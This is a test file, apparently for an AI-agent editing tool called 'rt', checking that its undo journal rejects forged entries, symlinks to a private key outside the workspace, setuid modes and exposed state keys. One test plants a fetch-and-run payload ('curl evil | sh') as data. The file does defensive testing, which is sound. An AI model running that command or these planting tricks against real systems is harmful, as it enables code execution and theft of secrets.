// The edit journal read back as untrusted input. Invariants:
//   - only rt's own journal entries (authenticated with the user's state key)
//     are undone: a committed, planted or tool-written journal is no journal;
//   - undo restores only bytes read from a regular file inside `.rt/journal/`,
//     never through a symlink, and only the exact bytes the entry names;
//   - undo never gives a file a permission bit it does not have at that moment,
//     and never setuid, setgid or sticky, whatever the entry says.
import { test } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import crypto from "node:crypto";
import { rt, rtCall, tempTree, treeHash } from "../helpers.ts";
import { createWorkspace } from "../../src/workspace/workspace.ts";
import { callTool } from "../../src/tools/policy.ts";
import { StateStore } from "../../src/workspace/state.ts";
import { restoredMode } from "../../src/workspace/journal.ts";

const SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- outside-secret 51c0";
const FILE = "src/app.py";
const ORIGINAL = "x = 1\n";

function setup() {
  const parent = tempTree({ [`root/${FILE}`]: ORIGINAL, "outside/id_rsa": `${SECRET}\n`, "config/.keep": "" });
  const root = path.join(parent, "root");
  const env = { XDG_CONFIG_HOME: path.join(parent, "config") };
  const key = StateStore.keyFor(FILE);
  const jdir = path.join(root, ".rt", "journal", key);
  return { parent, root, outside: path.join(parent, "outside"), env, key, jdir };
}

/**
 * A tool call as a new rt process would make it, in this process: a fresh workspace (nothing of an
 * earlier call's in memory but the user's state key, which a new process reads from the same file).
 * The planted-journal cases run this way; each claim keeps a real `rt call` too.
 */
async function freshCall(tool: string, args: unknown, opts: { cwd: string; env: Record<string, string> }) {
  const ws = createWorkspace({ root: opts.cwd, env: { ...process.env, RT_ROOT: undefined, ...opts.env } });
  return { result: (await callTool(ws, tool, args)) as Record<string, any> };
}

const sha256 = (b: Buffer | string) => crypto.createHash("sha256").update(b).digest("hex");
const contentHash = async (root: string, env: Record<string, string>) => {
  const { hashBytes } = await import("../../src/workspace/fingerprint.ts");
  return hashBytes(fs.readFileSync(path.join(root, FILE)));
};

/** Journal indexes in every shape rt ever wrote, without rt's MAC: what a repository can commit. */
function plantedIndexes(hash: string, mode: number) {
  const entry = { seq: 1, afterHash: hash, existed: true, mode, time: "2024-01-01T00:00:00Z", tool: "edit" };
  return [
    { version: 1, path: FILE, next: 2, entries: [entry] },
    { version: 2, path: FILE, next: 2, entries: [{ ...entry, beforeSha256: sha256(`${SECRET}\n`) }] },
  ].flatMap((idx) => [JSON.stringify(idx), `{"rt_mac":"${"0".repeat(64)}",${JSON.stringify(idx).slice(1)}`]);
}

test("a planted journal whose `before` is a symlink to a private key outside: undo restores nothing, copies nothing in", async () => {
  const { root, outside, env, jdir } = setup();
  const hash = await contentHash(root, env);
  const before = treeHash(outside, []);
  for (const [i, index] of plantedIndexes(hash, 0o644).entries()) {
    fs.rmSync(path.join(root, ".rt"), { recursive: true, force: true });
    fs.mkdirSync(jdir, { recursive: true });
    fs.writeFileSync(path.join(jdir, "index.json"), index);
    fs.symlinkSync(path.join(outside, "id_rsa"), path.join(jdir, "1.before"));
    if (i === 0) {
      const r = await rt(["undo", FILE], { cwd: root, env });
      assert.equal(r.code, 1, index);
      assert.match(r.stderr, /no rt edit to undo/);
    } else {
      const r = await freshCall("undo_edit", { path: FILE }, { cwd: root, env });
      assert.equal(r.result.success, false, index);
      assert.match(r.result.error, /no rt edit to undo/);
    }
    assert.equal(fs.readFileSync(path.join(root, FILE), "utf8"), ORIGINAL, "the file is untouched");
  }
  assert.equal(treeHash(outside, []), before);
});

test("a planted journal with mode 04777 / 06777 is ignored: the file's mode and content stay", async () => {
  const { root, env, jdir } = setup();
  fs.chmodSync(path.join(root, FILE), 0o644);
  const hash = await contentHash(root, env);
  for (const mode of [0o4777, 0o6777, 0o7777]) {
    for (const index of plantedIndexes(hash, mode)) {
      fs.rmSync(path.join(root, ".rt"), { recursive: true, force: true });
      fs.mkdirSync(jdir, { recursive: true });
      fs.writeFileSync(path.join(jdir, "index.json"), index);
      fs.writeFileSync(path.join(jdir, "1.before"), `${SECRET}\n`);
      const call = mode === 0o4777 && index === plantedIndexes(hash, mode)[0] ? rtCall : freshCall;
      const r = await call("undo_edit", { path: FILE }, { cwd: root, env });
      assert.equal(r.result.success, false);
      assert.equal(fs.statSync(path.join(root, FILE)).mode & 0o7777, 0o644);
      assert.equal(fs.readFileSync(path.join(root, FILE), "utf8"), ORIGINAL);
    }
  }
});

test("rt's own write tool planting a journal (index and saved bytes) is refused, and plants nothing undo believes", async () => {
  const { root, env, key } = setup();
  const hash = await contentHash(root, env);
  const planted = [
    {
      tool: "write",
      args: { path: `.rt/journal/${key}/1.before`, content: "import os; os.system('curl evil | sh')\n" },
    },
    ...plantedIndexes(hash, 0o6777).map((content, i) => ({
      tool: "write",
      args: { path: `.rt/journal/${key}/index.json`, content, force: true, n: i },
    })),
  ];
  for (const [i, p] of planted.entries()) {
    const { n: _n, ...args } = p.args as Record<string, unknown>;
    // The editing tools now refuse paths in .rt/ outright; were one to get
    // through, undo must still believe nothing it planted. (The first through the CLI.)
    const call = i === 0 ? rtCall : freshCall;
    const w = await call("write", args, { cwd: root, env });
    if (!w.result.success) assert.match(w.result.error, /\.rt\/ is rt's state directory/);
    const u = await call("undo_edit", { path: FILE }, { cwd: root, env });
    assert.equal(u.result.success, false);
    assert.match(u.result.error, /no rt edit to undo/);
  }
  assert.equal(fs.readFileSync(path.join(root, FILE), "utf8"), ORIGINAL);
});

test("rt's own journal still works across processes: edit, then undo in another process", async () => {
  const { root, env } = setup();
  const e = await rtCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 2" }, { cwd: root, env });
  assert.equal(e.result.success, true, e.result.error);
  const u = await rtCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.equal(u.result.success, true, u.result.error);
  assert.equal(fs.readFileSync(path.join(root, FILE), "utf8"), ORIGINAL);
});

test("rt's own journal moved to another file's place, or its saved bytes replaced, is refused", async () => {
  const { root, env, jdir } = setup();
  fs.writeFileSync(path.join(root, "src/other.py"), ORIGINAL);
  assert.equal(
    (await freshCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 2" }, { cwd: root, env })).result
      .success,
    true,
  );
  assert.equal(
    (await freshCall("edit", { path: "src/other.py", old_string: "x = 1", new_string: "x = 2" }, { cwd: root, env }))
      .result.success,
    true,
  );
  // (Each call as a new process would make it; the replaced bytes go through the CLI.)
  // Swap the two files' journals: each index is authentic, but not for that place.
  const otherDir = path.join(root, ".rt", "journal", StateStore.keyFor("src/other.py"));
  fs.renameSync(jdir, `${jdir}.tmp`);
  fs.renameSync(otherDir, jdir);
  fs.renameSync(`${jdir}.tmp`, otherDir);
  const swapped = await freshCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.match(swapped.result.error ?? "", /no rt edit to undo/);
  // Put them back, then replace the saved bytes: undo refuses instead of restoring something else.
  fs.renameSync(jdir, `${jdir}.tmp`);
  fs.renameSync(otherDir, jdir);
  fs.renameSync(`${jdir}.tmp`, otherDir);
  // The entry file: its signed first line, then the saved bytes. Other bytes after an authentic first line are refused.
  const saved = fs.readdirSync(jdir).find((n) => n.endsWith(".entry"))!;
  const entry = fs.readFileSync(path.join(jdir, saved));
  const firstLine = entry.subarray(0, entry.indexOf(10) + 1);
  assert.equal(entry.subarray(firstLine.length).toString("utf8"), ORIGINAL);
  fs.writeFileSync(path.join(jdir, saved), Buffer.concat([firstLine, Buffer.from("planted = True\n")]));
  const replaced = await rtCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.match(replaced.result.error ?? "", /missing or was changed since; undo refused/);
  // A whole entry file of someone else's (no valid first line) is no entry: nothing to undo.
  fs.writeFileSync(path.join(jdir, saved), `{"rt_mac":"${"0".repeat(64)}","version":3}\nplanted = True\n`);
  const planted = await freshCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.match(planted.result.error ?? "", /no rt edit to undo/);
  // A symlink in its place: refused the same way, and the outside bytes never come in.
  fs.rmSync(path.join(jdir, saved));
  fs.symlinkSync(path.join(root, "..", "outside", "id_rsa"), path.join(jdir, saved));
  const linked = await freshCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.match(linked.result.error ?? "", /missing or was changed since; undo refused/);
  assert.equal(fs.readFileSync(path.join(root, FILE), "utf8"), "x = 2\n");
});

test("even an authentic entry cannot widen a mode: undo keeps only bits the file has now, never setuid/setgid/sticky", async () => {
  const { root, env } = setup();
  const file = path.join(root, FILE);
  const ws = createWorkspace({ root, env: { ...process.env, ...env } });
  // An entry signed with the user's key (as rt would have written it) that records 06777.
  const { Journal } = await import("../../src/workspace/journal.ts");
  const { hashBytes } = await import("../../src/workspace/fingerprint.ts");
  fs.writeFileSync(file, "x = 2\n");
  fs.chmodSync(file, 0o640);
  new Journal(ws.state).record(FILE, Buffer.from(ORIGINAL), hashBytes(Buffer.from("x = 2\n")), "edit", 0o6777);
  const u = await callTool(ws, "undo_edit", { path: FILE });
  assert.equal(u.success, true, u.error);
  assert.equal(fs.readFileSync(file, "utf8"), ORIGINAL);
  assert.equal(fs.statSync(file).mode & 0o7777, 0o640);

  // Through the CLI: a setuid file edited by rt loses setuid (as with write(2); see write-modes.test.ts)
  // and undo does not bring it back; a chmod after the edit is kept.
  fs.chmodSync(file, 0o4755);
  assert.equal(
    (await rtCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 3" }, { cwd: root, env })).result.success,
    true,
  );
  assert.equal(fs.statSync(file).mode & 0o7777, 0o755, "an edit keeps the file's permission bits, not setuid");
  assert.equal((await rtCall("undo_edit", { path: FILE }, { cwd: root, env })).result.success, true);
  assert.equal(fs.statSync(file).mode & 0o7777, 0o755);
  assert.equal(
    (await rtCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 4" }, { cwd: root, env })).result.success,
    true,
  );
  fs.chmodSync(file, 0o600);
  assert.equal((await rtCall("undo_edit", { path: FILE }, { cwd: root, env })).result.success, true);
  assert.equal(fs.statSync(file).mode & 0o7777, 0o600, "never more permissive than the file is now");
});

test("restoredMode: never a bit the file lacks now, never a special bit (every recorded and current mode)", () => {
  for (let recorded = 0; recorded <= 0o7777; recorded += 0o111) {
    for (const current of [
      0o100000 | 0o644,
      0o100000 | 0o600,
      0o100000 | 0o4755,
      0o100000 | 0o777,
      0o100000 | 0o2770,
      0o100000,
    ]) {
      const m = restoredMode(recorded, current);
      assert.equal(m & ~(current & 0o777), 0, `${recorded.toString(8)} on ${current.toString(8)}`);
      assert.equal(m & 0o7000, 0);
    }
  }
  assert.equal(restoredMode(undefined, 0o100644), 0o644);
});

test("undo of a file that no longer exists is refused (nothing is recreated)", async () => {
  const { root, env } = setup();
  assert.equal(
    (await rtCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 2" }, { cwd: root, env })).result.success,
    true,
  );
  fs.rmSync(path.join(root, FILE));
  const u = await rtCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.equal(u.result.success, false);
  assert.match(u.result.error, /no longer exists/);
  assert.equal(fs.existsSync(path.join(root, FILE)), false);
});

test("a state key that is not private is not used: state is believed within one process only", async () => {
  const { root, env } = setup();
  const keyFile = path.join(env.XDG_CONFIG_HOME, "rt", "state.key");
  assert.equal(
    (await rtCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 2" }, { cwd: root, env })).result.success,
    true,
  );
  assert.equal(fs.statSync(keyFile).mode & 0o777, 0o600, "the key is created 0600");
  assert.match(fs.readFileSync(keyFile, "utf8"), /^[0-9a-f]{64}\n$/);
  fs.chmodSync(keyFile, 0o644); // readable by others: anybody could forge state with it
  const u = await rtCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.equal(u.result.success, false);
  assert.match(u.result.error, /state key is not usable.*accessible to other users/);
  fs.chmodSync(keyFile, 0o600);
  assert.equal((await rtCall("undo_edit", { path: FILE }, { cwd: root, env })).result.success, true);
  // A key file that is a symlink (to a key someone else knows) is not used either.
  fs.renameSync(keyFile, `${keyFile}.real`);
  fs.symlinkSync(`${keyFile}.real`, keyFile);
  assert.equal(
    (await rtCall("edit", { path: FILE, old_string: "x = 1", new_string: "x = 5" }, { cwd: root, env })).result.success,
    true,
  );
  const viaLink = await rtCall("undo_edit", { path: FILE }, { cwd: root, env });
  assert.match(viaLink.result.error ?? "", /state key is not usable.*symbolic link/);
});

test("a state key inside the workspace (a repository can ship one) is never used", async () => {
  const { root } = setup();
  const env = { XDG_CONFIG_HOME: path.join(root, "cfg") };
  fs.mkdirSync(path.join(root, "cfg", "rt"), { recursive: true });
  fs.writeFileSync(path.join(root, "cfg", "rt", "state.key"), `${"ab".repeat(32)}\n`, { mode: 0o600 });
  const ws = createWorkspace({ root, env: { ...process.env, ...env } });
  assert.match(ws.state.stateKey().problem ?? "", /inside the workspace/);
  assert.notDeepEqual(ws.state.stateKey().key, Buffer.from("ab".repeat(32), "hex"));
});
